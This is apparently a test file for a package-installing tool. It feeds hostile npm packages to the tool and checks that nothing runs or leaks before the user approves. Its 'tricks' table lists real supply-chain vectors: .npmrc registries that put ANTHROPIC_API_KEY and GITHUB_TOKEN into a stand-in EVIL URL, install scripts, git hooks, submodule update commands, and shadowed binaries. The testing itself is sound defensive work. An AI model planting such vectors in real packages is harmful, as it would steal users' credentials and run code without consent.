// Promise 10 of SECURITY.md.
// @module-tag sampled
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import fc from "fast-check";
import { expect, inject, test } from "vitest";
import { ikigai } from "./ikigai.ts";
import { type Recorder, startRegistry } from "./npm-registry.ts";
import { greeter, readRecord, world } from "./tool-world.ts";

/** Number of hostile packages: those that are listed, and random ones. */
const numRuns = inject("isThorough") ? 30 : 4;

const secrets = {
  ANTHROPIC_API_KEY: "sk-ant-canary-0001",
  GITHUB_TOKEN: "ghp_canary_0002",
  MY_PASSWORD: "canary-password-0003",
  DATABASE_URL: "postgres://u:canary-0004@h/d",
};

/** Files of a package that try to run or send something. `CANARY` is a program, `EVIL` a server. */
const tricks: Readonly<Record<string, Readonly<Record<string, string>>>> = {
  "npmrc: git": { ".npmrc": "git=CANARY\n" },
  "npmrc: registry": { ".npmrc": `registry=EVIL/\${ANTHROPIC_API_KEY}/\${GITHUB_TOKEN}/\n` },
  "npmrc: scripts": { ".npmrc": "ignore-scripts=false\nscript-shell=CANARY\nnode-options=--require=CANARY\n" },
  "etc/npmrc": { "etc/npmrc": `git=CANARY\nregistry=EVIL/\${MY_PASSWORD}/\n` },
  "scripts of the package": { "+scripts": '{"preinstall":"CANARY","prepare":"CANARY","postinstall":"CANARY"}' },
  workspaces: { "+workspaces": '["sub"]', "sub/package.json": '{"name":"sub","scripts":{"postinstall":"CANARY"}}' },
  overrides: { "+overrides": '{"good":"git+EVIL/x.git"}' },
  configuration: { "+config": '{"registry":"EVIL/"}', "+publishConfig": '{"registry":"EVIL/"}' },
  "development from git": { "+devDependencies": '{"dev":"git+EVIL/dev.git"}' },
  "a lock with addresses": { "package-lock.json": "LOCK" },
  "a shrinkwrap with addresses": { "npm-shrinkwrap.json": "LOCK" },
  "a module that npm would load": {
    "node_modules/npm/index.js": "CANARY",
    "node_modules/.bin/git": "#!/bin/sh\nCANARY\n",
  },
  hooks: { ".githooks/post-checkout": "#!/bin/sh\nCANARY\n", "hooks/post-checkout": "#!/bin/sh\nCANARY\n" },
  filters: { ".gitattributes": "* filter=user text\n", ".lfsconfig": "[lfs]\nurl = EVIL/lfs\n" },
  submodules: { ".gitmodules": '[submodule "s"]\npath = s\nurl = EVIL/s.git\nupdate = !CANARY\n' },
  programs: { git: "#!/bin/sh\nCANARY\n", npm: "#!/bin/sh\nCANARY\n", node: "#!/bin/sh\nCANARY\n" },
};

/** A valid lock except for the URL. */
const lock = JSON.stringify({
  lockfileVersion: 3,
  packages: {
    "": { dependencies: { good: "^1.0.0" } },
    "node_modules/good": { version: "1.0.0", resolved: "EVIL/good/-/good-1.0.0.tgz" },
  },
});

interface Attack {
  readonly names: readonly string[];
  readonly isGit: boolean;
}

/** Writes the package of an attack. */
function writePackage(folder: string, names: readonly string[], words: Readonly<Record<string, string>>): void {
  const manifest: Record<string, unknown> = { name: "pack", version: "1.0.0", dependencies: { good: "^1.0.0" } };
  const filled = (text: string) => text.replace("LOCK", lock).replace(/CANARY|EVIL/g, (word) => words[word] ?? "");
  for (const [name, text] of names.flatMap((trick) => Object.entries(tricks[trick] ?? {}))) {
    if (name.startsWith("+")) manifest[name.slice(1)] = JSON.parse(filled(text));
    else {
      mkdirSync(dirname(join(folder, name)), { recursive: true });
      writeFileSync(join(folder, name), filled(text), { mode: 0o755 });
    }
  }
  writeFileSync(join(folder, "package.json"), JSON.stringify(manifest));
  writeFileSync(join(folder, "a-tool"), greeter("a", "a"), { mode: 0o755 });
}

function commit(folder: string): void {
  const script = "git init --quiet; git add --all --force; git -c user.name=a -c user.email=a@b commit --quiet -m one";
  execFileSync("sh", ["-ec", script], { cwd: folder, env: { PATH: process.env.PATH, HOME: "/nonexistent" } });
}

/** A user with a private registry, a token for it, and git settings that are harmless in their own repositories. */
async function victim(registry: Recorder) {
  const place = await world({ "pack/": "" });
  const { root } = place;
  const canary = join(root, "canary");
  const program = join(root, "evil.cjs");
  writeFileSync(
    program,
    `#!/bin/sh\n":" //; touch '${canary}'; exit 1\nrequire("fs").writeFileSync("${canary}", "")\n`,
    {
      mode: 0o755,
    },
  );
  const host = new URL(registry.url).host;
  writeFileSync(
    join(root, "home/.npmrc"),
    `registry=${registry.url}/\n//${host}/:_authToken=\${REGISTRY_TOKEN}\nfetch-retries=0\n`,
  );
  writeFileSync(
    join(root, "home/.gitconfig"),
    `[core]\nhooksPath = .githooks\n[filter "user"]\nsmudge = ${program}\n[init]\ntemplateDir = hooks\n[submodule]\nrecurse = true\n`,
  );
  const env = { ...place.env, ...secrets, REGISTRY_TOKEN: "registry-token-0005", MARK: canary };
  // For users with the working directory on the PATH.
  return { ...place, canary, program, env: { ...env, PATH: `.::${process.env.PATH}` } };
}

test("before approval, nothing in a hostile package runs, and only the registry gets requests", {
  timeout: 300_000,
}, async () => {
  const registry = await startRegistry({ good: {} });
  const evil = await startRegistry();
  const attack = fc.record({ names: fc.uniqueArray(fc.constantFrom(...Object.keys(tricks))), isGit: fc.boolean() });
  const everything = { names: Object.keys(tricks).filter((name) => name !== "filters") };
  const property = fc.asyncProperty(attack, async ({ names, isGit }: Attack) => {
    const { root, cwd, env, canary, program } = await victim(registry);
    const folder = join(root, "pack");
    writePackage(folder, names, { CANARY: program, EVIL: evil.url });
    if (isGit) commit(folder);
    const source = isGit ? `file://${folder}` : "../pack";
    const { exitCode, stdout, stderr } = await ikigai(["tool", "add", source], { cwd, env });
    expect({ exitCode, stderr }).toEqual({ exitCode: 2, stderr: expect.stringContaining("pass --yes to confirm") });
    expect(stdout).toContain("Nothing in it has run yet.");
    expect(existsSync(canary)).toBe(false);
    expect(evil.requests).toEqual([]);
    const told = [stdout, stderr, ...registry.requests].join("\n");
    for (const secret of Object.values(secrets)) expect(told).not.toContain(secret);
  });
  await fc.assert(property, {
    numRuns,
    examples: [
      [{ ...everything, isGit: false }],
      [{ ...everything, isGit: true }],
      [{ names: ["filters"], isGit: true }],
    ],
  });
  // The user's own login is used, and npm made no update check.
  expect(registry.requests.join("\n")).toContain("Bearer registry-token-0005");
  expect(registry.requests.filter((request) => request.startsWith("GET /npm "))).toEqual([]);
});

test.each([
  ["git", "git+EVIL/x.git", /is "git\+http.*not a version in the npm registry/],
  ["a short name of a repository", "acme/x", /is "acme\/x", which is not a version/],
  ["ssh", "git@127.0.0.1:acme/x.git", /which is not a version/],
  ["an address", "EVIL/x.tgz", /which is not a version/],
  ["a folder", "file:./sub", /which is not a version/],
  ["a folder above", "../..", /which is not a version/],
  ["an archive", "x.tgz", /which is not a version/],
  ["another name of a repository", "npm:acme/x@1", /which is not a version/],
])("refuses a dependency that comes from %s", async (_, spec, reason) => {
  const evil = await startRegistry();
  const { root, cwd, env } = await victim(evil);
  writePackage(join(root, "pack"), [], {});
  const dependencies = { good: spec.replace("EVIL", evil.url) };
  writeFileSync(join(root, "pack/package.json"), JSON.stringify({ name: "pack", dependencies }));
  const { exitCode, stderr } = await ikigai(["tool", "add", "../pack", "--yes"], { cwd, env });
  expect(stderr).toMatch(reason);
  expect([exitCode, evil.requests]).toEqual([1, []]);
});

test.each([
  ["git", "git+EVIL/x.git"],
  ["an address", "EVIL/x.tgz"],
])("refuses a registry package that depends on %s, without fetching it", async (_, spec) => {
  const evil = await startRegistry();
  const registry = await startRegistry({ good: { dependencies: { bad: spec.replace("EVIL", evil.url) } } });
  const { root, cwd, env, home } = await victim(registry);
  writePackage(join(root, "pack"), [], {});
  for (const source of ["../pack", "npm:good"]) {
    const { exitCode, stderr } = await ikigai(["tool", "add", source, "--yes"], { cwd, env });
    expect(stderr).toMatch(/fetches dependencies from the registry only|disabled/);
    expect([exitCode, evil.requests, existsSync(join(home, "packages"))]).toEqual([1, [], false]);
  }
});

test("the lock decides the version, the registry the URL", async () => {
  const registry = await startRegistry({ good: {} });
  const { root, cwd, env, home } = await victim(registry);
  writePackage(join(root, "pack"), [], {});
  expect(await ikigai(["tool", "add", "../pack", "--yes"], { cwd, env })).toMatchObject({ exitCode: 0 });
  const { directory, lock: recorded } = readRecord(home).pack;
  const installed = join(home, "packages", directory, "node_modules/good/index.js");
  expect(readFileSync(installed, "utf8")).toContain("from the registry");
  // The same lock with another hash: the package in the registry is not the locked one.
  recorded.packages["node_modules/good"].integrity = `sha512-${"A".repeat(86)}==`;
  writeFileSync(join(root, "pack/package-lock.json"), JSON.stringify(recorded));
  const end = await ikigai(["tool", "update", "--yes"], { cwd, env });
  expect(end.stderr).toContain("EINTEGRITY");
  expect(end.exitCode).toBe(1);
});

test("does not look up a workspace in the registry", async () => {
  const registry = await startRegistry({ good: {} });
  const { root, cwd, env } = await victim(registry);
  writePackage(join(root, "pack"), ["workspaces"], { CANARY: "", EVIL: "" });
  writeFileSync(join(root, "pack/sub/package.json"), '{"name":"good"}');
  const { exitCode, stderr } = await ikigai(["tool", "add", "../pack", "--yes"], { cwd, env });
  expect(stderr).toContain('The dependency "good" of the package is one of its own folders (a workspace)');
  expect([exitCode, registry.requests]).toEqual([1, []]);
});

test("neither prints nor saves passwords and tokens in URLs", async () => {
  const evil = await startRegistry();
  const { cwd, env } = await victim(evil);
  const host = new URL(evil.url).host;
  for (const user of ["ghp_tokenasname", "someone:hunter2secret", ":hunter2secret"]) {
    for (const path of ["repo.git", "pack-1.0.0.tgz"]) {
      const { stdout, stderr } = await ikigai(["tool", "add", `http://${user}@${host}/${path}`, "--yes"], { cwd, env });
      expect(stderr).toContain(host);
      expect(stdout + stderr).not.toMatch(/ghp_tokenasname|hunter2secret/);
    }
  }
});
